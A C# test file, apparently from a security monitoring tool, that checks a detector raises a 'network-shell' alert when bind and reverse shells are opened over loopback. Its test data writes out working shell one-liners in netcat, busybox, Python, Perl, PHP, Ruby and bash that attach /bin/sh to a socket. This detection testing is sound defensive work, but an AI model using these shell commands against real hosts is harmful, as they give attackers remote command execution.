using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;

namespace Streams.Live.Tests;

/// <summary>
/// Bind and reverse shells over loopback, as they are opened by hand: each is one alert, whose evidence leads from the connection to the
/// shell. The forms are those of docs/query-examples.md; those whose program this machine lacks are skipped.
/// </summary>
public sealed class NetworkShellTests : IDisposable
{
    private const string Collectors = """{ "audit": { "socket_type": "unicast" }, "files": { "enabled": false } }""";

    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(30);

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("streams-live-");

    public void Dispose() => _folder.Delete(recursive: true);

    /// <summary>A program, its arguments, and what it is in the alert. PORT is where to listen or to connect to.</summary>
    public static TheoryData<string, string[], bool> Forms => new()
    {
        { "nc.traditional", ["-l", "-p", "PORT", "-e", "/bin/sh"], true },
        { "nc.traditional", ["-l", "-p", "PORT", "-c", "read line; true"], true },
        { "busybox", ["nc", "-l", "-p", "PORT", "-e", "/bin/sh"], true },
        {
            "python3",
            [
                "-c", "import os,socket; s=socket.socket(); s.bind(('127.0.0.1',PORT)); s.listen(1); c,_=s.accept(); "
                + "[os.dup2(c.fileno(),i) for i in (0,1,2)]; os.execl('/bin/sh','sh')",
            ],
            true
        },
        {
            "python3",
            [
                "-c", "import socket,subprocess; s=socket.socket(); s.bind(('127.0.0.1',PORT)); s.listen(1); c,_=s.accept(); "
                + "subprocess.run(['/bin/sh'],stdin=c,stdout=c,stderr=c)",
            ],
            true
        },
        {
            "perl",
            [
                "-MIO::Socket", "-e", "$s=IO::Socket::INET->new(LocalAddr=>'127.0.0.1',LocalPort=>PORT,Listen=>1);$c=$s->accept;"
                + "open(STDIN,'<&',$c);open(STDOUT,'>&',$c);open(STDERR,'>&',$c);exec('/bin/sh','-i')",
            ],
            true
        },
        {
            "php",
            [
                "-r", "$s=stream_socket_server('tcp://127.0.0.1:PORT');$c=stream_socket_accept($s);"
                + "proc_close(proc_open('/bin/sh',[$c,$c,$c],$p));",
            ],
            true
        },
        {
            "ruby",
            [
                "-rsocket", "-e",
                "c=TCPServer.new('127.0.0.1',PORT).accept;$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec('/bin/sh')",
            ],
            true
        },
        { "bash", ["-c", "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"], false },
        { "nc.traditional", ["127.0.0.1", "PORT", "-e", "/bin/sh"], false },
        { "busybox", ["nc", "127.0.0.1", "PORT", "-e", "/bin/sh"], false },
        {
            "python3",
            [
                "-c", "import os,socket,subprocess; s=socket.create_connection(('127.0.0.1',PORT)); "
                + "[os.dup2(s.fileno(),i) for i in (0,1,2)]; subprocess.call(['/bin/sh','-i'])",
            ],
            false
        },
        {
            "perl",
            [
                "-MIO::Socket", "-e", "$c=IO::Socket::INET->new('127.0.0.1:PORT');open(STDIN,'<&',$c);open(STDOUT,'>&',$c);"
                + "open(STDERR,'>&',$c);exec('/bin/sh','-i')",
            ],
            false
        },
        {
            "ruby",
            [
                "-rsocket", "-e",
                "c=TCPSocket.new('127.0.0.1',PORT);$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec('/bin/sh')",
            ],
            false
        },
    };

    [Theory]
    [MemberData(nameof(Forms))]
    public async Task A_shell_on_a_connection_is_told_with_the_connection_as_evidence(string program, string[] arguments, bool isBind)
    {
        using KernelAudit audit = KernelAudit.Take();
        Assert.SkipUnless(IsInstalled(program), $"needs {program}");
        await using LiveStreams streams = await LiveStreams.Start(_folder.FullName, Collectors);
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        int port = ((IPEndPoint)listener.LocalEndpoint).Port;
        if (isBind) listener.Stop();
        string number = port.ToString(CultureInfo.InvariantCulture);
        using Process shell = Process.Start(new ProcessStartInfo(
            program, arguments.Select(argument => argument.Replace("PORT", number, StringComparison.Ordinal)))
        {
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        })!;
        using TcpClient attacker = isBind ? await Connect(shell, port) : await listener.AcceptTcpClientAsync(Cancellation);
        await attacker.GetStream().WriteAsync("exit\n"u8.ToArray(), Cancellation);
        await shell.WaitForExitAsync(Cancellation).WaitAsync(Patience, Cancellation);

        JsonElement alert = await streams.Alert("network-shell");
        string message = alert.GetProperty("message").GetString()!;
        Assert.Contains(isBind ? "a bind shell" : "a reverse shell", message, StringComparison.Ordinal);
        Assert.DoesNotContain("inferred", message, StringComparison.Ordinal);
        string?[] actions =
        [
            .. alert.GetProperty("streams").GetProperty("alert").GetProperty("evidence").EnumerateArray()
                .Select(e => e.GetProperty("event").GetProperty("action").GetString()),
        ];
        Assert.Contains(isBind ? "accepted-connection-from" : "connected-to", actions);
        Assert.Equal("executed", actions[^1]);
    }

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    private static bool IsInstalled(string program) =>
        Environment.GetEnvironmentVariable("PATH")!.Split(':').Any(folder => File.Exists(Path.Combine(folder, program)));

    // Until it listens, it refuses.
    private static async Task<TcpClient> Connect(Process shell, int port)
    {
        long started = TimeProvider.System.GetTimestamp();
        while (true)
        {
            var client = new TcpClient();
            try
            {
                await client.ConnectAsync(IPAddress.Loopback, port, Cancellation);
                return client;
            }
            catch (SocketException)
            {
                client.Dispose();
                Assert.False(shell.HasExited, shell.HasExited ? await shell.StandardError.ReadToEndAsync(Cancellation) : "");
                Assert.True(TimeProvider.System.GetElapsedTime(started) < Patience, "it does not listen");
            }
        }
    }
}
